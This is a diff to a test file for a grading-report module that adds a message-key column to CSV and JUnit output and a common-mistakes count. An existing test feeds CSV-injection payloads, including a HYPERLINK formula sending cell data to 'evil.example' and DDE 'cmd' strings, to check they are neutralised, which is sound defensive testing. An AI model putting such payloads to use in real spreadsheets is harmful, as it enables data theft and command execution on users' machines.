@@ -4,7 +4,7 @@
 import { describe, expect, it } from 'vitest';
 import type { CheckResult } from '../../shared/api.js';
 import type { Graded } from '../../server/check/grade.js';
-import { summaryTable, toCsv, toJunit } from '../../server/check/report.js';
+import { commonMistakes, commonMistakesText, summaryTable, toCsv, toJunit } from '../../server/check/report.js';
 
 /** Raw characters a terminal acts on (all C0 but \n and \t, DEL, C1) and bidi overrides. */
 const TERMINAL_CONTROL = /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069]/;
@@ -60,10 +60,10 @@ describe('CSV of grading results', () => {
     const messages = ['=HYPERLINK("http://evil.example/?"&A1,"click")', '+1+cmd|\' /C calc\'!A0', '-2', '@SUM(A1:A9)', '\t=1', '\r=1', 'a; b', 'fine, "quoted"'];
     const csv = toCsv([graded('=cmd|\'/c calc\'!A1', messages.map((message) => ({ message })))]);
     const rows = parseCsv(csv);
-    expect(rows[0]).toEqual(['submission', 'task', 'check', 'status', 'message', 'duration_ms']);
+    expect(rows[0]).toEqual(['submission', 'task', 'check', 'status', 'message', 'duration_ms', 'message_key']);
     expect(rows).toHaveLength(messages.length + 1);
     for (const row of rows) {
-      expect(row).toHaveLength(6);
+      expect(row).toHaveLength(7);
       for (const cell of row) expect(cell, cell).not.toMatch(/^[=+\-@\t\r\n]/);
     }
     expect(rows[1]![0]).toBe("'=cmd|'/c calc'!A1");
@@ -86,5 +86,39 @@ describe('JUnit XML of grading results', () => {
     expect(junit).toContain('<testsuite name="s&lt;1&gt;&amp;&quot;"');
     expect(junit).toContain('message="a&quot;b&apos;&lt;c&gt;&amp;&#10;');
     expect(junit).not.toContain(']]>');
+  });
+});
+
+describe('message keys in grading reports', () => {
+  const cohort = [
+    graded('alice', [{ status: 'fail', message: 'No VIP on rs1', message_key: 'no-vip' }, { status: 'pass', message: 'ok', message_key: 'vip-up' }]),
+    graded('bob', [{ status: 'fail', message: 'No VIP on rs2', message_key: 'no-vip' }, { status: 'fail', message: 'arp', message_key: 'arp-answers' }]),
+    graded('carol', [{ status: 'fail', message: 'free text' }, { status: 'error', message: 'timeout', message_key: 'check.timeout' }, { status: 'fail', message: 'x', message_key: 'arp-answers' }]),
+    graded('dave', [{ status: 'fail', message: 'y', message_key: 'a-key' }]),
+  ];
+
+  it('gives the CSV a message_key column, empty for a check without one', () => {
+    const rows = parseCsv(toCsv(cohort));
+    expect(rows.slice(1).map((r) => r[6])).toEqual(['no-vip', 'vip-up', 'no-vip', 'arp-answers', '', 'check.timeout', 'arp-answers', 'a-key']);
+  });
+
+  it('gives JUnit failures and errors the key as their type', () => {
+    const junit = toJunit({ exercise: 'lvs-dr', graded: cohort });
+    expect(junit).toContain('<failure type="no-vip" message="No VIP on rs1">');
+    expect(junit).toContain('<error type="check.timeout" message="timeout">');
+    expect(junit).toContain('<failure message="free text">');
+  });
+
+  it('counts the failed checks by key, most first then by key, errors and free text left out, at most top', () => {
+    expect(commonMistakes(cohort)).toEqual([
+      { key: 'arp-answers', count: 2 },
+      { key: 'no-vip', count: 2 },
+      { key: 'a-key', count: 1 },
+    ]);
+    expect(commonMistakes(cohort, 1)).toEqual([{ key: 'arp-answers', count: 2 }]);
+    const many = Array.from({ length: 12 }, (_, i) => graded(`s${i}`, [{ status: 'fail', message: '', message_key: `k${String(i).padStart(2, '0')}` }]));
+    expect(commonMistakes(many)).toHaveLength(10);
+    expect(commonMistakesText(cohort)).toBe('Most common mistakes (message key: failed checks):\n  2  arp-answers\n  2  no-vip\n  1  a-key');
+    expect(commonMistakesText([graded('x', [{ status: 'fail', message: 'free' }])])).toBe('');
   });
 });
